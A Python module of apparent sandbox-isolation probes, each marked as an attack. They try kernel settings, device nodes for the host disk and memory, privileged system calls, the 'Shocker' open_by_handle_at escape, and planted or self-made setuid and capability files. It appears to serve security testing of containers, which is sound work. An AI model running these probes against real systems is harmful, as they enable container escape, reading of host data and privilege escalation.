"""The kernel's own doors: settings, devices, rare system calls, privileges in files."""
import ctypes
import errno
import fcntl
import glob
import os
import re
import socket
import stat
import struct
import subprocess
import time

from kit import Absent, Stopped, attack, call, failed, first, in_child, libc, overwrite, read, syscall, text


def setting(path, value):
    if not os.path.exists(path):
        raise Absent(path + " is not there")
    overwrite(path, value)
    return path + " is " + read(path).decode().strip()


@attack("sysctl.core-pattern")
def core_pattern(given):
    return setting("/proc/sys/kernel/core_pattern", given["corePattern"])


@attack("sysctl.vm")
def vm(given):
    return setting("/proc/sys/vm/stat_interval", given["statInterval"])


@attack("sysctl.net")
def net(_):
    return setting("/proc/sys/net/ipv4/ip_forward", "1")


@attack("sysctl.sysrq")
def sysrq(_):
    return setting("/proc/sysrq-trigger", "h")  # prints a help text into the kernel's log


@attack("sys.open-for-writing")
def sys_write(_):
    """Opens for writing what is there; writes nothing."""
    paths = ["/sys/power/state", "/sys/kernel/uevent_helper", "/sys/kernel/mm/ksm/run", "/sys/kernel/profiling"]
    for pattern in ("/sys/module/*/parameters/*", "/sys/block/*/queue/nr_requests", "/sys/class/net/*/ifalias",
                    "/sys/devices/system/cpu/cpu*/online", "/sys/firmware/efi/efivars/*", "/sys/kernel/debug/*"):
        paths += glob.glob(pattern)[:40]

    def one(path):
        os.close(os.open(path, os.O_WRONLY))
        return path + " is open for writing"
    return first([p for p in paths if os.path.exists(p)], one)


@attack("sys.write")
def sys_value(given):
    path = "/sys/kernel/mm/ksm/sleep_millisecs"
    return setting(path, given["ksmSleep"])


@attack("proc.kallsyms")
def kallsyms(_):
    with open("/proc/kallsyms") as f:
        for line in f:
            if int(line.split()[0], 16) != 0:
                return "address of " + line.split()[2]
    raise Stopped("all addresses are zero")


@attack("proc.dmesg")
def dmesg(_):
    buffer = ctypes.create_string_buffer(4096)
    n = call("klogctl", 3, buffer, 4096)
    if n == 0:
        raise Stopped("the kernel's log is empty")
    return "%d bytes of the kernel's log" % n


@attack("proc.kcore")
def kcore(_):
    if not os.path.exists("/proc/kcore"):
        raise Absent("/proc/kcore is not there")
    data = read("/proc/kcore", 4)
    if data != b"\x7fELF":
        raise Stopped("masked: %r" % data)
    return "the memory of the machine"


@attack("proc.masked")
def masked(_):
    """What the engine masks in /proc and /sys."""
    def one(path):
        if os.path.isdir(path):
            names = os.listdir(path)
            if not names:
                raise Stopped(path + " is empty")
            return path + " holds " + names[0]
        data = read(path, 100)
        if not data:
            raise Stopped(path + " is empty")
        return path + ": %d bytes" % len(data)
    return first([p for p in ("/sys/firmware", "/proc/timer_list", "/proc/keys", "/proc/sched_debug", "/proc/acpi")
                  if os.path.exists(p)], one)


def node(kind, major, minor):
    def one(folder):
        path = "%s/node-%d-%d" % (folder, major, minor)
        if os.path.lexists(path):
            os.unlink(path)
        os.mknod(path, kind | 0o666, os.makedev(major, minor))
        return path
    return first(("/workspace", "/tmp", "/dev/shm"), one)


def opened(path, most=8):
    with open(path, "rb", buffering=0) as f:
        return f.read(most)


@attack("device.raw-disk")
def raw_disk(given):
    """The host's disk by its number: the magic of its file system, or just a byte."""
    path = node(stat.S_IFBLK, given["diskMajor"], given["diskMinor"])
    fd = os.open(path, os.O_RDONLY)
    data = os.pread(fd, 1082, 0)
    return "%d bytes of the host's disk, magic %s" % (len(data), data[1080:1082].hex())


@attack("device.planted-disk")
def planted(given):
    """A node that somebody else left in the workspace (an archive, a rollback)."""
    fd = os.open(given["plantedNode"], os.O_RDONLY)
    return "%d bytes of the host's disk" % len(os.pread(fd, 4096, 0))


@attack("device.kmsg")
def kmsg(_):
    path = node(stat.S_IFCHR, 1, 11)
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    return "the kernel's log: " + os.read(fd, 8192)[:20].hex()


@attack("device.mem")
def mem(_):
    path = node(stat.S_IFCHR, 1, 1)
    try:
        return "%d bytes of physical memory" % len(opened(path))
    except OSError as e:
        if e.errno == errno.ENXIO:
            raise Absent("no /dev/mem in this kernel") from e
        raise


@attack("device.kvm-and-fuse")
def kvm(_):
    def one(numbers):
        path = node(stat.S_IFCHR, *numbers)
        os.close(os.open(path, os.O_RDWR))
        return "device %d:%d is open" % numbers
    return first(((10, 232), (10, 229), (10, 200)), one)


@attack("device.loop")
def loop(_):
    """Asks for a free loop device (changes nothing)."""
    numbers = (10, 237)
    for line in open("/proc/misc"):
        if line.split()[1] == "loop-control":
            numbers = (10, int(line.split()[0]))
    path = node(stat.S_IFCHR, *numbers)
    fd = os.open(path, os.O_RDWR)
    return "loop device %d is free" % fcntl.ioctl(fd, 0x4C82)


@attack("device.console")
def console(_):
    """Types into a terminal of the host: only the opening is tried."""
    path = node(stat.S_IFCHR, 5, 1)
    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
    return "the host's console is open"


@attack("call.init-module")
def module(_):
    try:
        syscall("init_module", ctypes.c_char_p(b"\x7fELF"), 4, text(""))
    except OSError as e:
        if e.errno in (errno.ENOEXEC, errno.EFAULT, errno.EINVAL):
            return "the kernel looked at the module: " + str(e)
        if e.errno == errno.ENOSYS:
            raise Absent("this kernel takes no modules") from e
        raise
    return "loaded"


@attack("call.kexec")
def kexec(_):
    """Unloads a kernel that is not loaded."""
    try:
        syscall("kexec_load", 0, 0, None, 0)
    except OSError as e:
        if e.errno == errno.ENOSYS:
            raise Absent("this kernel has no kexec") from e
        raise
    return "kexec_load answered"


@attack("call.iopl")
def iopl(_):
    try:
        syscall("iopl", 3)
    except OSError as e:
        if e.errno == errno.ENOSYS:
            raise Absent("this kernel has no iopl") from e
        raise
    return "all I/O ports"


@attack("call.reboot")
def reboot(given):
    """In a pid namespace of its own this ends the container, never the machine."""
    if os.stat("/proc/self/ns/pid").st_ino == given["hostPidNamespace"]:
        raise Stopped("refused by the probe itself: this is the host's pid namespace")
    libc.sync()
    call("reboot", 0x01234567)
    time.sleep(5)
    return "the container restarts"


@attack("call.bpf")
def bpf(_):
    wanted = struct.pack("IIIII", 2, 4, 8, 1, 0) + bytes(100)  # an array map
    fd = syscall("bpf", 0, ctypes.c_char_p(wanted), len(wanted))
    return "a bpf map, descriptor %d" % fd


@attack("call.perf-event")
def perf(_):
    wanted = struct.pack("IIQ", 1, 112, 0) + bytes(96)  # software, cpu clock
    try:
        fd = syscall("perf_event_open", ctypes.c_char_p(wanted), -1, 0, -1, 0)
    except OSError as e:
        if e.errno in (errno.ENOSYS, errno.ENOENT):
            raise Absent("this kernel has no performance events") from e
        raise
    return "all of CPU 0 is watched, descriptor %d" % fd


@attack("call.userfaultfd")
def uffd(_):
    return "descriptor %d" % syscall("userfaultfd", 1)


@attack("call.keyring")
def keyring(_):
    key = syscall("add_key", text("user"), text("probe"), text("payload"), 7, -2)
    return "key %d" % key


@attack("call.io-uring")
def io_uring(_):
    parameters = ctypes.create_string_buffer(120)
    return "ring %d" % syscall("io_uring_setup", 4, parameters)


@attack("call.inotify")
def inotify(_):
    """A uid has 128 of these, and all runs share one uid: who holds them all leaves others none."""
    held = [syscall("inotify_init1", 0) for _ in range(4)]
    return "%d of the uid's watchers" % len(held)


@attack("call.message-queue")
def message_queue(_):
    """Likewise for the bytes in message queues."""
    queue = syscall("mq_open", text("probe"), os.O_CREAT | os.O_RDWR, 0o600, None)
    libc.mq_unlink(text("/probe"))
    return "queue %d" % queue


@attack("call.sync")
def sync(_):
    """Has the whole machine write out all that is not on its disks yet."""
    syscall("sync")
    return "every disk was written out"


@attack("call.set-time")
def set_time(given):
    """Writes the error estimate of the machine's clock, which sets no time and is seen by all."""
    class Timex(ctypes.Structure):
        _fields_ = [("modes", ctypes.c_uint), ("offset", ctypes.c_long), ("freq", ctypes.c_long),
                    ("maxerror", ctypes.c_long), ("esterror", ctypes.c_long), ("rest", ctypes.c_char * 400)]
    t = Timex()
    call("adjtimex", ctypes.byref(t))
    was = t.esterror
    t.modes, t.esterror = 8, was - 1 if was > 0 else 1
    call("adjtimex", ctypes.byref(t))
    changed = t.esterror
    t.modes, t.esterror = 8, was
    call("adjtimex", ctypes.byref(t))
    return "the clock's error went from %d to %d and back" % (was, changed)


@attack("call.sethostname")
def hostname(_):
    name = b"taken"
    call("sethostname", ctypes.c_char_p(name), len(name))
    return socket.gethostname()


@attack("call.swapon")
def swapon(_):
    """With a file that is no swap space: EINVAL says that the kernel looked at it."""
    path = "/workspace/swap"
    with open(path, "wb") as f:
        f.write(bytes(40960))
    try:
        call("swapon", text(path), 0)
    except OSError as e:
        if e.errno == errno.EINVAL:
            return "the kernel looked at the file"
        raise
    return "on"


@attack("call.quotactl")
def quotactl(given):
    """Asks for quotas that are off: any answer but EPERM says that it was let through."""
    path = os.path.realpath(node(stat.S_IFBLK, given["diskMajor"], given["diskMinor"]))
    try:
        syscall("quotactl", (0x800007 << 8) | 0, text(path), 0, ctypes.create_string_buffer(128))
    except OSError as e:
        if e.errno in (errno.ESRCH, errno.ENOTSUP, errno.EINVAL, errno.ENODEV):
            return "the kernel looked at the disk's quotas: " + str(e)
        if e.errno == errno.ENOSYS:
            raise Absent("this kernel has no quotas") from e
        raise
    finally:
        os.unlink(path)
    return "answered"


@attack("call.acct")
def acct(_):
    path = "/workspace/acct"
    open(path, "w").close()
    call("acct", text(path))
    subprocess.run(["/bin/true"], check=True)
    size = os.path.getsize(path)
    libc.acct(None)
    return "%d bytes of accounting written by the kernel" % size


@attack("call.open-by-handle")
def shocker(given):
    """Shocker: the root of the host's file system by its handle, from any mount of it."""
    class Handle(ctypes.Structure):
        _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_char * 128)]

    def from_mount(point):
        mount = os.open(point, os.O_RDONLY)
        handle = Handle(8, 1, struct.pack("II", 2, 0))
        root = call("open_by_handle_at", mount, ctypes.byref(handle), os.O_RDONLY)
        for path in given["canary"], "/" + given["canary"].split("/", 2)[2]:
            try:
                fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root)
                return os.read(fd, 200).decode()
            except FileNotFoundError:
                pass
        return "a root that holds " + ",".join(os.listdir(root)[:5])
    return first(("/run/helm", "/slot"), from_mount)


@attack("file.planted-setuid")
def planted_setuid(given):
    """A setuid-root shell that somebody else left in the workspace."""
    out = subprocess.run([given["plantedSetuid"], "-p", "-c", "id -u"], capture_output=True, text=True)
    if out.stdout.strip() != "0":
        raise Stopped("it runs as " + (out.stdout.strip() or out.stderr.strip()))
    return "a root shell"


@attack("file.planted-capabilities")
def planted_caps(given):
    out = subprocess.run([given["plantedCapable"], "/proc/self/status"], capture_output=True, text=True)
    hit = re.search(r"CapEff:\s*([0-9a-f]+)", out.stdout)
    if not hit or int(hit[1], 16) == 0:
        raise Stopped("it runs with " + (hit[0] if hit else out.stderr.strip()))
    return "capabilities " + hit[1]


@attack("file.setuid-in-image")
def setuid_in_image(_):
    for folder, names, files in os.walk("/"):
        names[:] = [n for n in names if os.path.join(folder, n) not in ("/proc", "/sys", "/slot", "/dev", "/tmp")]
        for name in files:
            path = os.path.join(folder, name)
            try:
                mode = os.lstat(path).st_mode
                if stat.S_ISREG(mode) and mode & 0o6000:
                    return path
                if "security.capability" in os.listxattr(path, follow_symlinks=False):
                    return path
            except OSError:
                pass
    raise Stopped("no file with a setuid or setgid bit or capabilities")


@attack("file.set-capabilities")
def set_caps(_):
    path = "/workspace/capable"
    with open(path, "wb") as f:
        f.write(read("/bin/cat", 1 << 24))
    os.chmod(path, 0o755)
    os.setxattr(path, "security.capability", struct.pack("<IIIII", 0x02000001, 0x200000, 0, 0, 0))
    return "CAP_SYS_ADMIN on a file"


@attack("file.chown")
def chown(_):
    path = "/workspace/owned"
    open(path, "w").close()
    os.chown(path, 0, 0)
    os.chmod(path, 0o4755)
    return "a setuid file of root"


@attack("file.write-root")
def write_root(_):
    """A writable place outside the box and /tmp."""
    def one(folder):
        path = folder + "/probe"
        with open(path, "w") as f:
            f.write("here")
        os.unlink(path)
        return path
    return first(("/etc", "/usr/local/bin", "/usr/lib/python3/dist-packages", "/var/tmp", "/var/lib", "/run", "/run/lock",
                  "/root", "/home", "/opt", "/"), one)


@attack("file.core-dump")
def core(_):
    os.chdir("/workspace")
    pid = os.fork()
    if pid == 0:
        os.kill(os.getpid(), 11)
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    cores = glob.glob("/workspace/core*")
    if not cores:
        if not read("/proc/sys/kernel/core_pattern").startswith(b"core"):
            raise Absent("the machine gives its core dumps to a program")
        raise Stopped("ended with %d, no core" % status)
    return cores[0]
